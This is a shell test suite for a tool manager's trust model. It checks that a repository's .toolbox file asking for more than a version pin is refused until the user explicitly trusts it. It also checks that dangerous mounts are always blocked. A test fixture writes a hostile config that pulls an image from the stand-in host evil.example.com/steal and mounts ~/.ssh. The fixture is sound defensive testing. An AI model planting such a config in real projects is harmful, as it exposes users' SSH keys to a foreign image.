#!/bin/sh
# The trust model: a .toolbox pins versions freely; anything more it asks
# of a tool applies only once the user trusts that exact content, and some
# mounts never.
# shellcheck disable=SC1091,SC2016 # bodies are single-quoted, evaluated by test_case
. "$(dirname "$0")/../lib.sh"

# A cloned repository's .toolbox that asks for a foreign image and the
# user's SSH keys.
hostile() {
	printf "[tools]\nprobe = 2\n\n[tool.probe]\nimage = evil.example.com/steal\nmounts = ~/.ssh:/root/.ssh:ro\n" >.toolbox
}

# An engine that only records that it ran.
recording_engine() {
	mkdir -p "$T/bin"
	printf "#!/bin/sh\ntouch \"%s/engine-ran\"\n" "$T" >"$T/bin/docker"
	chmod +x "$T/bin/docker"
}

test_case 'a .toolbox asking for a foreign image and ~/.ssh is refused in one line, with the way forward; nothing runs' '
	install_probe; recording_engine; hostile
	mkdir -p "$HOME/.ssh"
	run env PATH="$T/bin:$PATH" "$SHIMS/cat" id_rsa; check_status 125
	check_one_error "probe: $T/work/.toolbox asks for more than a version of probe (image, mounts) and is not trusted; read it, then run '"'"'tbx trust $T/work/.toolbox'"'"'"
	check_eq "" "$out"
	test ! -e "$T/engine-ran"
	run env TBX_DRY_RUN=1 "$SHIMS/cat"; check_status 125; check_eq "" "$out"
	run "$TBX" which cat; check_status 125
'

test_case 'tbx trust applies all of it; an edit makes the file untrusted again; --list and --revoke' '
	install_probe; hostile
	mkdir -p "$HOME/.ssh"
	run "$TBX" trust; check_status 0
	check_match "trusted $T/work/.toolbox (sha256 *); it asks for:
  probe: image, mounts
    image evil.example.com/steal
    mount $HOME/.ssh -> /root/.ssh, read-only" "$out"
	line=$(TBX_DRY_RUN=1 "$SHIMS/cat")
	check_match "* --mount type=bind,src=$HOME/.ssh,dst=/root/.ssh,readonly --network host --mount type=bind,src=$SHIMS/cat,dst=/run/tbx/exec,readonly -- evil.example.com/steal:2 /run/tbx/exec probe@2 cat" "$line"
	test "$(stat -c %a "$HOME/.local/state/tbx/trusted")" = 600
	echo "# one more line" >>.toolbox
	run env TBX_DRY_RUN=1 "$SHIMS/cat"; check_status 125
	check_one_error "probe: $T/work/.toolbox asks for more * is not trusted; *"
	check_eq "$T/work/.toolbox  (changed since trusted: not trusted)" "$("$TBX" trust --list)"
	"$TBX" trust .toolbox >/dev/null
	check_eq "$T/work/.toolbox  (trusted)
  probe: image, mounts
    image evil.example.com/steal
    mount $HOME/.ssh -> /root/.ssh, read-only" "$("$TBX" trust --list)"
	run "$TBX" add probe@1; check_status 0
	check_one_error "add: warning: $T/work/.toolbox changed, so it is no longer trusted; read it and run *tbx trust*"
	run env TBX_DRY_RUN=1 "$SHIMS/cat"; check_status 125
	"$TBX" trust >/dev/null
	run "$TBX" trust --revoke; check_status 0; check_eq "revoked $T/work/.toolbox" "$out"
	run env TBX_DRY_RUN=1 "$SHIMS/cat"; check_status 125
	run "$TBX" trust --revoke; check_status 125
	check_one_error "trust: $T/work/.toolbox is not trusted"
	check_eq "" "$("$TBX" trust --list)"
'

test_case 'env and network apply once trusted; versions alone never ask; unknown keys name file:line' '
	install_probe
	printf "[tools]\nprobe = 2\n" >.toolbox
	check_match "*tbx-test/probe:2 /run/tbx/exec probe@2 cat" "$(TBX_DRY_RUN=1 "$SHIMS/cat")"
	printf "[tools]\nprobe = 2\n[tool.probe]\nenv.GOFLAGS = -mod=vendor\nnetwork = none\n" >.toolbox
	"$TBX" trust >/dev/null
	check_match "* -e GOFLAGS=-mod=vendor -e TZ --network none --mount type=bind,src=$SHIMS/cat,dst=/run/tbx/exec,readonly -- tbx-test/probe:2 /run/tbx/exec probe@2 cat" "$(TBX_DRY_RUN=1 "$SHIMS/cat")"
	printf "[tools]\nprobe = 2\n[tool.probe]\nprivileged = true\n" >.toolbox
	run env TBX_DRY_RUN=1 "$SHIMS/cat"; check_status 125
	check_one_error "probe: $T/work/.toolbox:4: unknown key *privileged* (image, network, mounts, env.NAME, warm)"
	run "$TBX" trust; check_status 125
	check_one_error "trust: $T/work/.toolbox:4: unknown key *privileged*"
'

test_case 'even trusted, a .toolbox cannot mount /, a socket, or what holds the engine'"'"'s socket' '
	install_probe
	mkdir -p "$T/run"
	python3 -c "import socket,sys; socket.socket(socket.AF_UNIX).bind(sys.argv[1])" "$T/agent.sock"
	for m in "/:/host" "$T/agent.sock:/a.sock" "$T/run:/x" "$T:/y"; do
		printf "[tools]\nprobe = 1\n[tool.probe]\nmounts = %s\n" "$m" >.toolbox
		"$TBX" trust >/dev/null
		run env DOCKER_HOST="unix://$T/run/engine.sock" TBX_DRY_RUN=1 "$SHIMS/cat"
		check_status 125
		check_one_error "probe: $T/work/.toolbox: mount '"'"'$m'"'"' mounts * refused even when trusted"
	done
'
test_done
